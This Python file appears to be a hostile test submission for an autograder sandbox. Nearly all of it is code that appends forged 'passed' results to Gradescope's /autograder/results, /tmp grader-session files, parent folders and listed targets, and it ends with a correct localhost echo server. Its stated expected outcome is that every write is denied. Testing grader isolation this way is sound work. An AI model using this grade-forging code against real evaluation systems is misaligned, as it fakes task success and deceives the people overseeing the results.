# Attack: write results/grade files: in its cwd, every parent folder, Gradescope's /autograder/results, any
# grading-session folder under /tmp, and the paths the test names in targets.json (a results folder, the
# repository). Then it serves correctly.
# Expected outcome: tier A: every write fails (EROFS / ENOENT / EACCES), both behaviours pass (the verdict
# is the grader's), and no file outside the run's scratch space changes.
import glob
import json
import os

targets = json.load(open("targets.json")) if os.path.exists("targets.json") else {}
paths = ["results.json", "grade.txt", "HOSTILE-MARKER-results.json"]
d = os.getcwd()
while d != "/":
    d = os.path.dirname(d)
    paths.append(os.path.join(d, "HOSTILE-MARKER-results.json"))
paths += ["/autograder/results/results.json", "/tmp/HOSTILE-MARKER-results.json"]
paths += glob.glob("/tmp/grader-session-*/results.jsonl") + targets.get("write", [])
for p in paths:
    try:
        with open(p, "a") as fh:
            fh.write('{"event": "behaviour", "result": {"id": "small", "status": "passed"}}\n')
        print("WROTE", p)
    except OSError as exc:
        print("DENIED", p, type(exc).__name__, exc.errno)
print("done writing", flush=True)

def serve(reply=bytes.upper, on_data=None):
    """A correct select() echo server on 127.0.0.1:9000 (reply=bytes.lower makes it wrong)."""
    import select
    import socket
    sk = socket.socket()
    sk.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    sk.bind(("127.0.0.1", 9000))
    sk.listen(64)
    conns = [sk]
    while True:
        for s in select.select(conns, [], [])[0]:
            if s is sk:
                conns.append(sk.accept()[0])
                continue
            try:
                data = s.recv(4096)
            except OSError:
                data = b""
            if not data:
                conns.remove(s)
                s.close()
                continue
            if on_data:
                on_data(data)
            s.sendall(reply(data))


serve()
